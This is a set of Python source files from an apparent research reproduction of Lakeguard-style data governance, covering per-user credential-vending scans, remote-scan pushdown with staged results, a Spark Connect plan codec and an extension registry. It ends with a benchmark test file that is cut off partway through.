    """DataSource implementation backed by Unity Catalog storage."""

    def __init__(
        self,
        catalog: UnityCatalog,
        caps: ComputeCapabilities,
        num_executors: int = 2,
        enable_credential_cache: bool = True,
        credential_refresh_ahead: float = 0.2,
    ):
        self._catalog = catalog
        self._caps = caps
        self._num_executors = max(1, num_executors)
        self.stats = ScanStats()
        self.credential_cache: CredentialCache | None = None
        if enable_credential_cache:
            self.credential_cache = CredentialCache(
                clock=catalog.clock,
                refresh_ahead_fraction=credential_refresh_ahead,
                telemetry=catalog.telemetry,
            )
            catalog.register_cache_stats_provider(
                f"credential_cache[{caps.compute_id}]",
                self.credential_cache.stats_snapshot,
            )
        self._pool: ThreadPoolExecutor | None = None
        self._pool_lock = threading.Lock()

    def _task_pool(self) -> ThreadPoolExecutor:
        with self._pool_lock:
            if self._pool is None:
                self._pool = ThreadPoolExecutor(
                    max_workers=self._num_executors,
                    thread_name_prefix="scan-exec",
                )
            return self._pool

    def _delegate_context(self, delegate: str) -> UserContext:
        if self._catalog.principals.is_user(delegate):
            return self._catalog.principals.context_for(delegate)
        return UserContext(user=delegate)

    def _credential_for(self, table: TableRef, ctx: UserContext):
        """Vend (or reuse) the user-bound credential for one scan."""
        if table.auth_delegate is not None:
            # Definer-rights scan (view body): the credential is vended under
            # the definer's authority; the session user stays in the audit.
            vend_ctx = self._delegate_context(table.auth_delegate)
            on_behalf_of = ctx.user
        else:
            vend_ctx = ctx
            on_behalf_of = None

        def vend():
            return self._catalog.vend_credential(
                vend_ctx, table.full_name, {READ, LIST}, self._caps,
                on_behalf_of=on_behalf_of,
            )

        if self.credential_cache is None:
            self.stats.credentials_vended += 1
            return vend()
        credential, reused = self.credential_cache.get_or_vend(
            principal=vend_ctx.user,
            securable=table.full_name,
            operations=frozenset({READ, LIST}),
            on_behalf_of=on_behalf_of,
            policy_epoch=self._catalog.policy_epoch,
            vend=vend,
            validate=self._catalog.vendor.validate,
        )
        if reused:
            self.stats.credential_cache_hits += 1
        else:
            self.stats.credentials_vended += 1
        return credential

    def scan(self, table: TableRef, eval_ctx: EvalContext) -> Iterator[ColumnBatch]:
        ctx = eval_ctx.auth
        if not isinstance(ctx, UserContext):
            raise ExecutionError(
                f"scan of '{table.full_name}' has no authenticated user context"
            )
        if table.storage_root is None:
            raise ExecutionError(
                f"'{table.full_name}' has no storage visible to this compute"
            )
        credential = self._credential_for(table, ctx)
        storage = LakeTableStorage(self._catalog.store, table.storage_root)
        snapshot = storage.snapshot(credential, version=table.snapshot_version)
        batch_size = getattr(eval_ctx, "batch_size", 0)

        # Distribute files over simulated executor tasks round-robin; each
        # task reads with the same user-bound credential.
        assignments: list[list[DataFile]] = [[] for _ in range(self._num_executors)]
        for i, data_file in enumerate(snapshot.files):
            assignments[i % self._num_executors].append(data_file)
        tasks = [(i, files) for i, files in enumerate(assignments) if files]

        qctx: QueryContext | None = getattr(eval_ctx, "query_ctx", None)

        def run_task(
            task_index: int,
            task_files: list[DataFile],
            task_ctx: QueryContext | None,
        ) -> list[ColumnBatch]:
            # Materialize the task's files inside its span so the span
            # measures the read, not downstream operator time.
            with span_or_null(
                task_ctx,
                f"scan-task-{task_index}",
                "executor.task",
                table=table.full_name,
                task=task_index,
                files=len(task_files),
                credential_identity=credential.identity,
            ):
                batches = []
                for data_file in task_files:
                    columns = storage.read_file(data_file, credential)
                    batches.append(ColumnBatch.from_dict(table.schema, columns))
                return batches

        produced = False
        if self._num_executors > 1 and len(tasks) > 1:
            # Parallel path: the ambient contextvar does not cross threads,
            # so each task gets an explicit child context created *here*
            # (while the query's span is current) to parent its span onto.
            self.stats.parallel_scans += 1
            pool = self._task_pool()
            futures = [
                (
                    task_index,
                    task_files,
                    pool.submit(
                        run_task,
                        task_index,
                        task_files,
                        qctx.child() if qctx is not None else None,
                    ),
                )
                for task_index, task_files in tasks
            ]
            # Consume in submission order: deterministic output regardless
            # of which worker finishes first.
            for task_index, task_files, future in futures:
                batches = future.result()
                self.stats.executor_tasks += 1
                self.stats.files_read += len(task_files)
                for batch in batches:
                    for chunk in chunk_batch(batch, batch_size):
                        produced = True
                        yield chunk
        else:
            for task_index, task_files in tasks:
                batches = run_task(task_index, task_files, qctx)
                self.stats.executor_tasks += 1
                self.stats.files_read += len(task_files)
                for batch in batches:
                    for chunk in chunk_batch(batch, batch_size):
                        produced = True
                        yield chunk
        if not produced:
            yield ColumnBatch.empty(table.schema)
