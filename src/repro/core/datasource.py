"""Governed data source: executor-side scans with credential vending (Fig. 2).

Every scan task exchanges the session identity for a temporary, table-scoped
credential before touching storage — data access is *user-bound*, never
cluster-bound. Files of a snapshot are distributed round-robin across
simulated executors, each of which performs its reads under the vended
credential, so the audit log shows per-user, per-object access.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterator

from repro.catalog.metastore import UnityCatalog
from repro.common.context import span_or_null
from repro.catalog.privileges import UserContext
from repro.catalog.scopes import ComputeCapabilities
from repro.engine.batch import ColumnBatch
from repro.engine.expressions import EvalContext
from repro.engine.logical import TableRef
from repro.errors import ExecutionError
from repro.storage.credentials import LIST, READ
from repro.storage.table_format import LakeTableStorage


@dataclass
class ScanStats:
    files_read: int = 0
    credentials_vended: int = 0
    executor_tasks: int = 0


class GovernedDataSource:
    """DataSource implementation backed by Unity Catalog storage."""

    def __init__(
        self,
        catalog: UnityCatalog,
        caps: ComputeCapabilities,
        num_executors: int = 2,
    ):
        self._catalog = catalog
        self._caps = caps
        self._num_executors = max(1, num_executors)
        self.stats = ScanStats()

    def _delegate_context(self, delegate: str) -> UserContext:
        if self._catalog.principals.is_user(delegate):
            return self._catalog.principals.context_for(delegate)
        return UserContext(user=delegate)

    def scan(self, table: TableRef, eval_ctx: EvalContext) -> Iterator[ColumnBatch]:
        ctx = eval_ctx.auth
        if not isinstance(ctx, UserContext):
            raise ExecutionError(
                f"scan of '{table.full_name}' has no authenticated user context"
            )
        if table.storage_root is None:
            raise ExecutionError(
                f"'{table.full_name}' has no storage visible to this compute"
            )
        if table.auth_delegate is not None:
            # Definer-rights scan (view body): the credential is vended under
            # the definer's authority; the session user stays in the audit.
            vend_ctx = self._delegate_context(table.auth_delegate)
            on_behalf_of = ctx.user
        else:
            vend_ctx = ctx
            on_behalf_of = None
        credential = self._catalog.vend_credential(
            vend_ctx, table.full_name, {READ, LIST}, self._caps,
            on_behalf_of=on_behalf_of,
        )
        self.stats.credentials_vended += 1
        storage = LakeTableStorage(self._catalog.store, table.storage_root)
        snapshot = storage.snapshot(credential, version=table.snapshot_version)

        # Distribute files over simulated executor tasks round-robin; each
        # task reads with the same user-bound credential.
        assignments: list[list] = [[] for _ in range(self._num_executors)]
        for i, data_file in enumerate(snapshot.files):
            assignments[i % self._num_executors].append(data_file)

        qctx = getattr(eval_ctx, "query_ctx", None)
        produced = False
        for task_index, task_files in enumerate(assignments):
            if not task_files:
                continue
            self.stats.executor_tasks += 1
            # Materialize the task's files inside its span so the span
            # measures the read, not downstream operator time.
            with span_or_null(
                qctx,
                f"scan-task-{task_index}",
                "executor.task",
                table=table.full_name,
                task=task_index,
                files=len(task_files),
                credential_identity=credential.identity,
            ):
                batches = []
                for data_file in task_files:
                    columns = storage.read_file(data_file, credential)
                    self.stats.files_read += 1
                    batches.append(ColumnBatch.from_dict(table.schema, columns))
            for batch in batches:
                produced = True
                yield batch
        if not produced:
            yield ColumnBatch.empty(table.schema)
