"""External fine-grained access control (§3.4, Fig. 8).

On privileged compute the resolver plants :class:`RemoteScan` leaves; the
rules here then *refine* those leaves by folding safe filters, projections,
limits, and partial aggregations into the remote payload — so the serverless
endpoint ships back as little data as possible. The remote side re-analyzes
the unresolved plan against the catalog, which re-injects the row filters and
masks the origin compute was never allowed to see.

Result handling implements the paper's dual mode: small results return
inline with the query; large results are staged to cloud storage and read
back in parallel by the origin cluster.
"""

from __future__ import annotations

import pickle
from dataclasses import dataclass
from typing import Any, Callable, Iterator

from repro.catalog.metastore import UnityCatalog
from repro.catalog.privileges import UserContext
from repro.common.context import current_context, span_or_null
from repro.common.ids import new_id
from repro.core.plan_codec import encode_expression
from repro.engine.batch import ColumnBatch
from repro.engine.expressions import (
    BoundRef,
    EvalContext,
    Expression,
    contains_user_code,
)
from repro.engine.logical import (
    Aggregate,
    Filter,
    Limit,
    LogicalPlan,
    Project,
    RemoteScan,
)
from repro.engine.optimizer import is_safe_to_push
from repro.engine.types import Schema
from repro.errors import ExecutionError, ProtocolError
from repro.storage.credentials import DELETE, READ, WRITE

#: Result sets at or below this row count return inline with the query.
INLINE_RESULT_ROW_THRESHOLD = 1000

STAGING_ROOT = "s3://unity-staging"


def _bump(remote: RemoteScan, key: str) -> dict[str, Any]:
    pushed = dict(remote.pushed)
    pushed[key] = pushed.get(key, 0) + 1
    return pushed


@dataclass
class PushFilterIntoRemoteScan:
    """Filter(RemoteScan) → RemoteScan with the predicate in the payload."""

    name: str = "PushFilterIntoRemoteScan"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if not (isinstance(node, Filter) and isinstance(node.child, RemoteScan)):
                return node
            if not is_safe_to_push(node.condition):
                return node
            remote = node.child
            try:
                condition = encode_expression(node.condition)
            except ProtocolError:
                return node
            payload = {
                "@type": "relation.filter",
                "input": remote.payload,
                "condition": condition,
            }
            return RemoteScan(
                payload, remote.schema, remote.source_tables,
                _bump(remote, "filters"),
            )

        return plan.transform_up(rewrite)


@dataclass
class PushProjectIntoRemoteScan:
    """Project(RemoteScan) → RemoteScan computing the projection remotely."""

    name: str = "PushProjectIntoRemoteScan"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if not (isinstance(node, Project) and isinstance(node.child, RemoteScan)):
                return node
            if any(
                not e.deterministic or contains_user_code(e) for e in node.exprs
            ):
                return node
            remote = node.child
            try:
                exprs = [self._named(e) for e in node.exprs]
            except ProtocolError:
                return node
            payload = {
                "@type": "relation.project",
                "input": remote.payload,
                "expressions": exprs,
            }
            return RemoteScan(
                payload, node.schema, remote.source_tables,
                _bump(remote, "projections"),
            )

        return plan.transform_up(rewrite)

    @staticmethod
    def _named(expr: Expression) -> dict[str, Any]:
        """Keep output names stable so the local schema stays aligned."""
        encoded = encode_expression(expr)
        if encoded.get("@type") == "expr.alias":
            return encoded
        return {"@type": "expr.alias", "child": encoded, "name": expr.output_name()}


@dataclass
class PushLimitIntoRemoteScan:
    """Limit(RemoteScan) → RemoteScan with the limit in the payload."""

    name: str = "PushLimitIntoRemoteScan"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if not (isinstance(node, Limit) and isinstance(node.child, RemoteScan)):
                return node
            remote = node.child
            payload = {
                "@type": "relation.limit",
                "input": remote.payload,
                "limit": node.limit,
                "offset": node.offset,
            }
            return RemoteScan(
                payload, remote.schema, remote.source_tables,
                _bump(remote, "limits"),
            )

        return plan.transform_up(rewrite)


@dataclass
class PushPartialAggIntoRemoteScan:
    """Aggregate(RemoteScan) → final-Aggregate(RemoteScan[partial agg]).

    The remote endpoint computes partial aggregate states over the governed
    rows; only (group keys, opaque states) cross the wire; the origin merges
    and finalizes. Group keys and aggregate inputs must be engine-safe.
    """

    name: str = "PushPartialAggIntoRemoteScan"

    def apply(self, plan: LogicalPlan) -> LogicalPlan:
        def rewrite(node: LogicalPlan) -> LogicalPlan:
            if not (
                isinstance(node, Aggregate)
                and node.mode == "complete"
                and isinstance(node.child, RemoteScan)
            ):
                return node
            remote = node.child
            exprs = list(node.groupings) + list(node.aggregates)
            if any(not e.deterministic or contains_user_code(e) for e in exprs):
                return node
            try:
                payload = {
                    "@type": "relation.aggregate",
                    "input": remote.payload,
                    "groupings": [encode_expression(g) for g in node.groupings],
                    "aggregates": [encode_expression(a) for a in node.aggregates],
                    "mode": "partial",
                }
            except ProtocolError:
                return node

            # The remote scan now yields [keys..., states...].
            partial_node = Aggregate(
                remote, node.groupings, node.aggregates, mode="partial"
            )
            partial_schema = partial_node.schema
            new_remote = RemoteScan(
                payload, partial_schema, remote.source_tables,
                _bump(remote, "partial_aggregates"),
            )
            final_groupings = [
                BoundRef(i, g.output_name(), g.dtype)
                for i, g in enumerate(node.groupings)
            ]
            return Aggregate(
                new_remote, final_groupings, node.aggregates, mode="final"
            )

        return plan.transform_up(rewrite)


def efgac_rules() -> list[Any]:
    """The rule set Lakeguard adds to the optimizer on privileged compute."""
    return [
        PushFilterIntoRemoteScan(),
        PushProjectIntoRemoteScan(),
        PushPartialAggIntoRemoteScan(),
        PushLimitIntoRemoteScan(),
    ]


# ---------------------------------------------------------------------------
# Remote execution with dual result modes
# ---------------------------------------------------------------------------

#: Submits a relation proto to the governed remote endpoint as a given user.
#: Returns (schema message, column-major data).
RemoteSubmit = Callable[[str, dict[str, Any]], tuple[list[dict[str, str]], list[list[Any]]]]


@dataclass
class RemoteQueryStats:
    """Counters for sub-plans shipped to the serverless endpoint."""

    subqueries: int = 0
    inline_results: int = 0
    staged_results: int = 0
    rows_received: int = 0
    bytes_staged: int = 0


class RemoteQueryExecutor:
    """Executes RemoteScan leaves against a serverless endpoint (§3.4)."""

    def __init__(
        self,
        submit: RemoteSubmit,
        catalog: UnityCatalog,
        inline_row_threshold: int = INLINE_RESULT_ROW_THRESHOLD,
        staging_chunk_rows: int = 4096,
    ):
        self._submit = submit
        self._catalog = catalog
        self._inline_threshold = inline_row_threshold
        self._staging_chunk_rows = staging_chunk_rows
        self.stats = RemoteQueryStats()

    def __call__(
        self, remote: RemoteScan, eval_ctx: EvalContext
    ) -> Iterator[ColumnBatch]:
        ctx = eval_ctx.auth
        user = ctx.user if isinstance(ctx, UserContext) else eval_ctx.user
        self.stats.subqueries += 1
        qctx = getattr(eval_ctx, "query_ctx", None) or current_context()
        with span_or_null(
            qctx,
            "efgac-remote-subquery",
            "remote.subquery",
            tables=sorted(remote.source_tables),
            pushed=dict(remote.pushed),
        ) as span:
            schema_msg, columns = self._submit(user, remote.payload)
            if len(schema_msg) != len(remote.schema):
                raise ExecutionError(
                    f"remote result arity {len(schema_msg)} does not match "
                    f"expected schema {remote.schema}"
                )
            num_rows = len(columns[0]) if columns else 0
            self.stats.rows_received += num_rows
            inline = num_rows <= self._inline_threshold
            if span is not None:
                span.set_attribute("rows", num_rows)
                span.set_attribute("result_mode", "inline" if inline else "staged")

        if inline:
            self.stats.inline_results += 1
            yield ColumnBatch(remote.schema, [list(c) for c in columns])
            return

        # Large result: persist to cloud storage, then read back in chunks.
        self.stats.staged_results += 1
        yield from self._stage_and_read(user, remote.schema, columns)

    def _stage_and_read(
        self, user: str, schema: Schema, columns: list[list[Any]]
    ) -> Iterator[ColumnBatch]:
        staging_prefix = f"{STAGING_ROOT}/{new_id('stage')}"
        credential = self._catalog.vendor.issue(
            identity=user,
            prefixes=[staging_prefix],
            operations={READ, WRITE, DELETE},
        )
        num_rows = len(columns[0]) if columns else 0
        paths: list[str] = []
        for part, start in enumerate(range(0, num_rows, self._staging_chunk_rows)):
            chunk = [c[start : start + self._staging_chunk_rows] for c in columns]
            blob = pickle.dumps(chunk, protocol=pickle.HIGHEST_PROTOCOL)
            path = f"{staging_prefix}/part-{part:05d}"
            self._catalog.store.put(path, blob, credential)
            self.stats.bytes_staged += len(blob)
            paths.append(path)
        # Origin cluster reads the staged parts (in parallel in production).
        for path in paths:
            chunk = pickle.loads(self._catalog.store.get(path, credential))
            yield ColumnBatch(schema, chunk)
            self._catalog.store.delete(path, credential)
        self._catalog.vendor.revoke(credential.token)
