"""Spark Connect plan messages ⇄ engine logical plans.

Decoding happens server-side only: the client never sees engine classes.
Encoding (expressions only) is used by the eFGAC rewriter, which wraps a
RemoteScan payload with the filters/projections/partial aggregates it pushes
to the remote endpoint.
"""

from __future__ import annotations

from typing import Any

import cloudpickle

from repro.engine.aggregates import AggregateCall
from repro.engine.expressions import (
    Alias,
    Arithmetic,
    BooleanOp,
    BoundRef,
    CaseWhen,
    Cast,
    Comparison,
    CurrentUser,
    Expression,
    FunctionCall,
    InList,
    IsAccountGroupMember,
    IsNull,
    Like,
    Literal,
    Not,
    PythonUDFCall,
    SortOrder,
    Star,
    UnresolvedColumn,
)
from repro.engine.logical import (
    Aggregate,
    Distinct,
    Filter,
    Join,
    Limit,
    LocalRelation,
    LogicalPlan,
    Project,
    Range,
    Sort,
    SubqueryAlias,
    Union,
    UnresolvedRelation,
)
from repro.engine.types import Field, Schema, type_from_name
from repro.engine.udf import PythonUDF
from repro.errors import LakeguardError, ProtocolError
from repro.sql.parser import parse_expression, parse_statement
from repro.sql import ast_nodes as ast
from repro.sql.to_plan import FunctionLookup, PlanBuilder

_ARITH_OPS = {"+", "-", "*", "/", "%"}
_CMP_OPS = {"=", "!=", "<", "<=", ">", ">="}
_BOOL_OPS = {"AND", "OR"}

#: Maximum temp-view substitution depth (guards recursive definitions).
MAX_VIEW_DEPTH = 16


class PlanDecoder:
    """Decodes relation/expression messages for one session."""

    def __init__(
        self,
        session_user: str,
        function_lookup: FunctionLookup,
        temp_views: dict[str, dict[str, Any]] | None = None,
        extensions: "ExtensionRegistry | None" = None,
    ):
        self._session_user = session_user
        self._lookup = function_lookup
        self._temp_views = temp_views or {}
        self._builder = PlanBuilder(function_lookup)
        self._extensions = extensions

    # ------------------------------------------------------------------
    # Relations
    # ------------------------------------------------------------------

    def relation(self, msg: dict[str, Any], depth: int = 0) -> LogicalPlan:
        """Decode a relation message into an (unresolved) logical plan.

        Malformed messages (missing fields, type-confused values) must
        surface as typed :class:`ProtocolError`, never as bare Python
        exceptions — a crash mid-decode is an attacker-reachable path.
        """
        try:
            return self._relation(msg, depth)
        except (LakeguardError, RecursionError):
            raise
        except (KeyError, TypeError, ValueError, AttributeError) as exc:
            raise ProtocolError(f"malformed relation message: {exc!r}") from exc

    def _relation(self, msg: dict[str, Any], depth: int) -> LogicalPlan:
        if depth > MAX_VIEW_DEPTH:
            raise ProtocolError("temp-view substitution exceeded maximum depth")
        kind = msg.get("@type")
        if kind == "relation.read":
            name = msg["table"]
            if name in self._temp_views:
                inner = self.relation(self._temp_views[name], depth + 1)
                return SubqueryAlias(inner, name.split(".")[-1])
            options = msg.get("options") or {}
            return SubqueryAlias(
                UnresolvedRelation(name, options), name.split(".")[-1]
            )
        if kind == "relation.sql":
            stmt = parse_statement(msg["query"])
            if not isinstance(stmt, (ast.SelectStatement, ast.UnionStatement)):
                raise ProtocolError("relation.sql must contain a query")
            return self._substitute_temp_views(self._builder.build(stmt), depth)
        if kind == "relation.local":
            fields = tuple(
                Field(f["name"], type_from_name(f["type"])) for f in msg["schema"]
            )
            return LocalRelation(Schema(fields), [list(c) for c in msg["columns"]])
        if kind == "relation.range":
            return Range(msg["start"], msg["end"], msg.get("step", 1))
        if kind == "relation.project":
            return Project(
                self.relation(msg["input"], depth),
                [self.expression(e) for e in msg["expressions"]],
            )
        if kind == "relation.filter":
            return Filter(
                self.relation(msg["input"], depth),
                self.expression(msg["condition"]),
            )
        if kind == "relation.join":
            condition = msg.get("condition")
            return Join(
                self.relation(msg["left"], depth),
                self.relation(msg["right"], depth),
                msg.get("how", "inner"),
                self.expression(condition) if condition is not None else None,
            )
        if kind == "relation.aggregate":
            return Aggregate(
                self.relation(msg["input"], depth),
                [self.expression(g) for g in msg["groupings"]],
                [self.expression(a) for a in msg["aggregates"]],
                mode=msg.get("mode", "complete"),
            )
        if kind == "relation.sort":
            orders = [
                SortOrder(
                    self.expression(o["expr"]),
                    bool(o.get("ascending", True)),
                    bool(o.get("nulls_first", True)),
                )
                for o in msg["orders"]
            ]
            return Sort(self.relation(msg["input"], depth), orders)
        if kind == "relation.limit":
            return Limit(
                self.relation(msg["input"], depth),
                msg["limit"],
                msg.get("offset", 0),
            )
        if kind == "relation.distinct":
            return Distinct(self.relation(msg["input"], depth))
        if kind == "relation.union":
            return Union([self.relation(r, depth) for r in msg["inputs"]])
        if kind == "relation.subquery_alias":
            return SubqueryAlias(self.relation(msg["input"], depth), msg["alias"])
        if kind == "relation.extension":
            if self._extensions is None:
                raise ProtocolError(
                    f"no extension registry; cannot decode '{msg.get('name')}'"
                )
            return self._extensions.decode_relation(
                msg.get("name", ""), msg.get("payload", {}), self
            )
        raise ProtocolError(f"unknown relation type '{kind}'")

    def _substitute_temp_views(self, plan: LogicalPlan, depth: int) -> LogicalPlan:
        """Replace references to session temp views inside SQL-derived plans."""
        if not self._temp_views:
            return plan

        def substitute(node: LogicalPlan) -> LogicalPlan:
            if isinstance(node, UnresolvedRelation) and node.name in self._temp_views:
                return self.relation(self._temp_views[node.name], depth + 1)
            return node

        return plan.transform_up(substitute)

    # ------------------------------------------------------------------
    # Expressions
    # ------------------------------------------------------------------

    def expression(self, msg: dict[str, Any]) -> Expression:
        """Decode an expression message into an engine expression tree."""
        kind = msg.get("@type")
        if kind == "expr.literal":
            return Literal(msg["value"])
        if kind == "expr.column":
            return UnresolvedColumn(msg["name"])
        if kind == "expr.star":
            return Star(msg.get("qualifier"))
        if kind == "expr.alias":
            return Alias(self.expression(msg["child"]), msg["name"])
        if kind == "expr.binary":
            op = msg["op"]
            left = self.expression(msg["left"])
            right = self.expression(msg["right"])
            if op in _ARITH_OPS:
                return Arithmetic(op, left, right)
            if op in _CMP_OPS:
                return Comparison(op, left, right)
            if op in _BOOL_OPS:
                return BooleanOp(op, left, right)
            raise ProtocolError(f"unknown binary operator '{op}'")
        if kind == "expr.not":
            return Not(self.expression(msg["child"]))
        if kind == "expr.isnull":
            return IsNull(self.expression(msg["child"]), bool(msg.get("negated")))
        if kind == "expr.in":
            return InList(
                self.expression(msg["child"]),
                tuple(msg["values"]),
                bool(msg.get("negated")),
            )
        if kind == "expr.like":
            return Like(
                self.expression(msg["child"]),
                msg["pattern"],
                bool(msg.get("negated")),
            )
        if kind == "expr.case":
            branches = [
                (self.expression(c), self.expression(v))
                for c, v in msg["branches"]
            ]
            otherwise = msg.get("otherwise")
            return CaseWhen(
                branches,
                self.expression(otherwise) if otherwise is not None else None,
            )
        if kind == "expr.cast":
            return Cast(self.expression(msg["child"]), type_from_name(msg["to"]))
        if kind == "expr.func":
            return FunctionCall(
                msg["name"], tuple(self.expression(a) for a in msg["args"])
            )
        if kind == "expr.agg":
            child = msg.get("child")
            return AggregateCall(
                msg["name"],
                self.expression(child) if child is not None else None,
                distinct=bool(msg.get("distinct")),
            )
        if kind == "expr.current_user":
            return CurrentUser()
        if kind == "expr.group_member":
            return IsAccountGroupMember(msg["group"])
        if kind == "expr.sql":
            parsed = parse_expression(msg["text"])
            return self._builder.resolve_functions(parsed)
        if kind == "expr.python_udf":
            try:
                func = cloudpickle.loads(msg["func_blob"])
            except Exception as exc:  # noqa: BLE001 - hostile blobs
                raise ProtocolError(
                    f"UDF '{msg.get('name')}' has an undeserializable "
                    f"function payload: {type(exc).__name__}"
                ) from exc
            udf = PythonUDF(
                name=msg["name"],
                func=func,
                return_type=type_from_name(msg["return_type"]),
                owner=self._session_user,  # ephemeral code: caller's domain
                deterministic=bool(msg.get("deterministic", True)),
            )
            return PythonUDFCall(udf, tuple(self.expression(a) for a in msg["args"]))
        if kind == "expr.catalog_function":
            udf = self._lookup(msg["name"])
            if udf is None:
                raise ProtocolError(f"unknown catalog function '{msg['name']}'")
            return PythonUDFCall(udf, tuple(self.expression(a) for a in msg["args"]))
        raise ProtocolError(f"unknown expression type '{kind}'")


# ---------------------------------------------------------------------------
# Expression encoding (for eFGAC pushdown payloads)
# ---------------------------------------------------------------------------


def encode_expression(expr: Expression) -> dict[str, Any]:
    """Encode a *bound, safe* expression back into protocol form.

    Column references become names: the remote endpoint re-analyzes the plan
    against its own (policy-injected) schema, which is exactly why eFGAC
    "operates on the unresolved logical plan level only" (§3.4).
    """
    if isinstance(expr, Literal):
        return {"@type": "expr.literal", "value": expr.value}
    if isinstance(expr, BoundRef):
        return {"@type": "expr.column", "name": expr.name}
    if isinstance(expr, UnresolvedColumn):
        return {"@type": "expr.column", "name": expr.name}
    if isinstance(expr, Alias):
        return {
            "@type": "expr.alias",
            "child": encode_expression(expr.child),
            "name": expr.name,
        }
    if isinstance(expr, Arithmetic) or isinstance(expr, Comparison):
        return {
            "@type": "expr.binary",
            "op": expr.op,
            "left": encode_expression(expr.children[0]),
            "right": encode_expression(expr.children[1]),
        }
    if isinstance(expr, BooleanOp):
        return {
            "@type": "expr.binary",
            "op": expr.op,
            "left": encode_expression(expr.children[0]),
            "right": encode_expression(expr.children[1]),
        }
    if isinstance(expr, Not):
        return {"@type": "expr.not", "child": encode_expression(expr.children[0])}
    if isinstance(expr, IsNull):
        return {
            "@type": "expr.isnull",
            "child": encode_expression(expr.children[0]),
            "negated": expr.negated,
        }
    if isinstance(expr, InList):
        return {
            "@type": "expr.in",
            "child": encode_expression(expr.children[0]),
            "values": list(expr.values),
            "negated": expr.negated,
        }
    if isinstance(expr, Like):
        return {
            "@type": "expr.like",
            "child": encode_expression(expr.children[0]),
            "pattern": expr.pattern,
            "negated": expr.negated,
        }
    if isinstance(expr, CaseWhen):
        otherwise = expr.otherwise()
        return {
            "@type": "expr.case",
            "branches": [
                [encode_expression(c), encode_expression(v)]
                for c, v in expr.branches()
            ],
            "otherwise": encode_expression(otherwise) if otherwise else None,
        }
    if isinstance(expr, Cast):
        return {
            "@type": "expr.cast",
            "child": encode_expression(expr.children[0]),
            "to": expr.target.name,
        }
    if isinstance(expr, FunctionCall):
        return {
            "@type": "expr.func",
            "name": expr.name,
            "args": [encode_expression(a) for a in expr.children],
        }
    if isinstance(expr, AggregateCall):
        return {
            "@type": "expr.agg",
            "name": "count" if expr.func_name == "count_distinct" else expr.func_name,
            "child": encode_expression(expr.child) if expr.child else None,
            "distinct": expr.distinct or expr.func_name == "count_distinct",
        }
    if isinstance(expr, CurrentUser):
        return {"@type": "expr.current_user"}
    if isinstance(expr, IsAccountGroupMember):
        return {"@type": "expr.group_member", "group": expr.group}
    raise ProtocolError(
        f"expression {type(expr).__name__} cannot be encoded for remote "
        "execution (user code never crosses the eFGAC boundary)"
    )
