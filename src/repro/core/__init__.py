"""Lakeguard: the paper's primary contribution, assembled.

- :mod:`repro.core.plan_codec` — Spark Connect plan ⇄ engine plan.
- :mod:`repro.core.enforcement` — the governed relation resolver: privilege
  checks, view expansion with definer rights, row-filter / column-mask
  injection under ``SecureView``.
- :mod:`repro.core.datasource` — executor-side scans with per-user
  credential vending.
- :mod:`repro.core.efgac` — external fine-grained access control: RemoteScan
  rewriting, filter/projection/partial-aggregate pushdown, dual result modes.
- :mod:`repro.core.lakeguard` — :class:`LakeguardCluster`, the execution
  backend behind the Spark Connect service for every compute type.
"""

from repro.core.lakeguard import LakeguardCluster
from repro.core.enforcement import GovernedResolver
from repro.core.efgac import RemoteQueryExecutor

__all__ = ["LakeguardCluster", "GovernedResolver", "RemoteQueryExecutor"]
