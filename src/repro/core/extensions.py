"""Spark Connect extension points, server side (§3.2.2).

"All major interfaces for relations, expressions, and commands provide
explicit extension points ... a mechanism to transparently embed custom
message types as part of the execution." Plugins register decoders for
namespaced ``relation.extension`` / ``command.extension`` messages; clients
ship those messages without the core protocol changing.

The canonical example — exactly the one the paper names — is the **Delta**
plugin in :mod:`repro.core.delta_plugin`: time travel reads, table history,
and VACUUM.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Callable

from repro.engine.logical import LogicalPlan
from repro.errors import ProtocolError

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.connect.sessions import SessionState
    from repro.core.lakeguard import LakeguardCluster
    from repro.core.plan_codec import PlanDecoder

#: Decodes a relation-extension payload into a (possibly unresolved) plan.
RelationHandler = Callable[[dict[str, Any], "PlanDecoder"], LogicalPlan]

#: Executes a command-extension payload; returns the command result payload.
CommandHandler = Callable[[dict[str, Any], "SessionState", "LakeguardCluster"], dict[str, Any]]


class ExtensionRegistry:
    """Named relation/command extension handlers for one server."""

    def __init__(self) -> None:
        self._relations: dict[str, RelationHandler] = {}
        self._commands: dict[str, CommandHandler] = {}

    # -- registration --------------------------------------------------------------

    def register_relation(self, name: str, handler: RelationHandler) -> None:
        self._relations[name] = handler

    def register_command(self, name: str, handler: CommandHandler) -> None:
        self._commands[name] = handler

    def relation_names(self) -> list[str]:
        return sorted(self._relations)

    def command_names(self) -> list[str]:
        return sorted(self._commands)

    # -- dispatch -------------------------------------------------------------------

    def decode_relation(
        self, name: str, payload: dict[str, Any], decoder: "PlanDecoder"
    ) -> LogicalPlan:
        """Dispatch a relation-extension payload to its registered plugin."""
        handler = self._relations.get(name)
        if handler is None:
            raise ProtocolError(
                f"unknown relation extension '{name}'; "
                f"installed: {self.relation_names()}"
            )
        return handler(payload, decoder)

    def execute_command(
        self,
        name: str,
        payload: dict[str, Any],
        session: "SessionState",
        backend: "LakeguardCluster",
    ) -> dict[str, Any]:
        handler = self._commands.get(name)
        if handler is None:
            raise ProtocolError(
                f"unknown command extension '{name}'; "
                f"installed: {self.command_names()}"
            )
        return handler(payload, session, backend)


def default_registry() -> ExtensionRegistry:
    """The registry shipped with every Lakeguard cluster (Delta installed)."""
    from repro.core.delta_plugin import install as install_delta

    registry = ExtensionRegistry()
    install_delta(registry)
    return registry
