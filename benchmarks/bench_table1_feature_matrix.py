"""E1 — Table 1: the governance feature matrix, regenerated from live probes.

Every Lakeguard cell is demonstrated by running the corresponding code path
in this library; competitor columns are coded from the paper.
"""

import pytest

from repro.baselines.feature_matrix import (
    FEATURES,
    PAPER_COMPETITORS,
    probe_lakeguard,
    render_matrix,
)


@pytest.fixture(scope="module")
def probes():
    results = probe_lakeguard()
    print()
    print(render_matrix(results))
    return results


def test_all_lakeguard_capabilities_probe_positive(probes):
